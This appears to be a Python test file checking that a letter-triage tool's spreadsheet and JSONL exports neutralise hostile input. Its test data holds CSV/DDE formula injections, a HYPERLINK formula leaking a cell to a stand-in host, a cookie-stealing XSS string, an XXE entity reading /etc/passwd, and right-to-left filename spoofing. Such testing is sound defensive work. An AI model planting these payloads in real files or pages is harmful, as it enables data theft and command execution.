"""Letters written to break sheets and exports: nothing runs, nothing is lost."""

from __future__ import annotations

import zipfile
from typing import TYPE_CHECKING

import msgspec
import pytest
from casebook_tools import record
from correction_tools import Desk, cells, column_of
from openpyxl import load_workbook

from classifier.casebook.labelled import labelled
from classifier.records import LabelledLetter, Person, Question, Tag, TriageRecord
from classifier.sheets.columns import LETTERS, QUESTIONS

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

HOSTILE = {
    "formula": '=HYPERLINK("http://letters.example/?"&A1,"see here")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": "\t=1+1\r\n-2+3",
    "script": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "right to left": "Please send \u202egpj.exe\u202c and \u2066hidden\u2069",
    "one line of 5 MB": "how many " * 580_000,
    "control characters": "bell\x07 null\x00 escape\x1b[31m red \x85 next",
    "excel's own codes": "_x0041__x000D_ _x005F_x0042_",
    "csv": 'a","b";"c"\r\n"d',
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;&amp;&#0;",
    "marks upon marks": "Z" + "\u0300\u0301\u0302\u0316" * 3_000 + " \U0001f600" * 10,
    "longer than a cell": "officers, dogs and horses " * 2_000,
    "label": "fleet",
}


def letter(name: str, words: str) -> TriageRecord:
    text = f"Dear Sir\n\n1. {words}\n2. And the cost?\n"
    second = text.index("And the cost?")
    topic = Tag(label="drugs", score=0.8, suggested=True, because=(words[:200],))
    questions = (
        Question(
            id="q1", number=words[:30], parent=None, kind="request", span=(13, 13 + len(words)),
            text=" ".join(words.split()), topics=(topic,),
        ),
        Question(
            id="q2", number="2", parent=None, kind="request", span=(second, second + 13), text="And the cost?"
        ),
    )  # fmt: skip
    plain = record(name.encode().hex().ljust(64, "0")[:64], source=f"inbox/{words[:60]}.eml", text=text)
    return msgspec.structs.replace(
        plain, subject=words[:5_000], questions=questions, references=(words[:100],),
        applicant=Person(name=words[:300], address=words[:300]),
    )  # fmt: skip


LETTERS_OF = {name: letter(name, words) for name, words in HOSTILE.items()}


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    with Desk.make(tmp_path_factory.mktemp("hostile"), *LETTERS_OF.values()) as made:
        yield made


@pytest.fixture(scope="module")
def exported(desk: Desk) -> Path:
    """The sheet after people corrected the run's own: every first question is about the fleet, every second ticked."""
    rows = cells(desk.sheet, QUESTIONS)
    changes: dict[str, object] = {}
    for number, row in enumerate(rows[1:], 2):
        first = row[column_of(QUESTIONS, "question") - 1] == "q1"
        changes[f"Questions!{'topic_1' if first else 'correct'}!{number}"] = "Fleet" if first else "yes"
        changes[f"Questions!notes!{number}"] = "\u202e<b>noted</b>"
    desk.change(changes)  # the sheet goes through another program's reading and writing on its way
    made = desk.take()
    assert made.letters == len(HOSTILE)
    return desk.export("exported.xlsx")


def test_every_letter_was_corrected_and_none_of_its_words_took_part(desk: Desk, exported: Path) -> None:
    assert exported.exists()
    for made in LETTERS_OF.values():
        decided = desk.decided(made.id)
        assert decided["q1", "topics"] == ("fleet",)
        assert decided["q2", "topics"] == ()


def test_no_cell_is_a_formula_a_link_or_hidden(desk: Desk, exported: Path) -> None:
    for path in (desk.sheet, exported):
        book = load_workbook(path)
        for sheet in book.worksheets:
            assert sheet.sheet_state == "visible"
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell.coordinate
                    assert cell.hyperlink is None
        with zipfile.ZipFile(path) as archive:
            assert not [n for n in archive.namelist() if "externalLink" in n or n.endswith((".bin", ".vml"))]
            assert not [n for n in archive.namelist() if b"\xe2\x80\xae" in archive.read(n) and "sheet1" in n]


def test_the_exported_sheet_comes_back_without_a_change(desk: Desk, exported: Path) -> None:
    made = desk.take(exported, who="Bea")
    assert made.rows == len(HOSTILE) * 3
    assert made.decisions == {}


def test_labelled_letters_hold_every_character_and_come_back(desk: Desk, exported: Path, tmp_path: Path) -> None:
    assert exported.exists()
    out = desk.export("letters.jsonl")
    lines = [msgspec.json.decode(line, type=LabelledLetter) for line in out.read_bytes().split(b"\n") if line]
    assert {x.id: x.text for x in lines} == {x.id: x.text for x in LETTERS_OF.values()}
    with Desk.make(tmp_path, *LETTERS_OF.values()) as other:
        other.take(out)
        assert {x.letter.id: x.letter.questions for x in labelled(other.book)} == {x.id: x.questions for x in lines}


def test_a_letter_row_shows_its_subject_without_what_turns_the_text_round(exported: Path) -> None:
    subjects = [row[column_of(LETTERS, "subject") - 1] or "" for row in cells(exported, LETTERS)]
    assert "Please send gpj.exe and hidden" in subjects
    assert not any("\u202e" in s or "\x07" in s for s in subjects)
